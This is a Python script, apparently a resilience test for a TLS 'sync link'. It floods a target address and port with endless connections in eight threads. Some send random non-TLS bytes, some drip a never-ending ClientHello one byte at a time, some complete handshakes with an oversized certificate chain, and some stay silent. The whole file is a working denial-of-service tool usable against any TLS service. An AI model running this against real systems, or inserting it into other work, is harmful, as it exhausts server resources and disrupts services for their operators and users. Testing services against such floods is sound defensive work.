#!/usr/bin/python3
"""Whoever speaks to the sync link without belonging to it: connects again and again, in several ways at once, until it is
killed.

  hostile_tls.py --target ADDRESS:PORT --source ADDRESS --certificate FILE

Of its connections some send bytes that are no TLS, some a handshake that never ends, byte by byte, some shake hands with a
certificate and a chain as large as they come (FILE: key and certificates), and some say nothing at all.
"""

import argparse
import contextlib
import itertools
import os
import socket
import ssl
import threading
import time

PAUSE_S = 0.005


def connect(arguments):
    address, port = arguments.target.split(":")
    return socket.create_connection((address, int(port)), 5, (arguments.source, 0))


def garbage(sock, _):
    sock.sendall(os.urandom(65536))
    sock.recv(1)


def endless(sock, _):
    """A ClientHello of the largest size, of which there is always more to come."""
    sock.sendall(b"\x16\x03\x01\x40\x00\x01\x01\xff\xff")
    while True:
        sock.sendall(b"\x00")
        time.sleep(PAUSE_S)


def silent(sock, _):
    sock.recv(1)


def large(sock, arguments):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.load_cert_chain(arguments.certificate)
    with context.wrap_socket(sock) as tls:
        tls.recv(1)


def attack(kind, arguments):
    for _ in itertools.count():
        with contextlib.suppress(OSError), connect(arguments) as sock:
            kind(sock, arguments)
        time.sleep(PAUSE_S)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--target", required=True, metavar="ADDRESS:PORT")
    parser.add_argument("--source", required=True)
    parser.add_argument("--certificate", required=True)
    arguments = parser.parse_args()
    threads = [threading.Thread(target=attack, args=(kind, arguments))
               for kind in (garbage, endless, silent, large) for _ in range(2)]
    for thread in threads:
        thread.start()


if __name__ == "__main__":
    main()
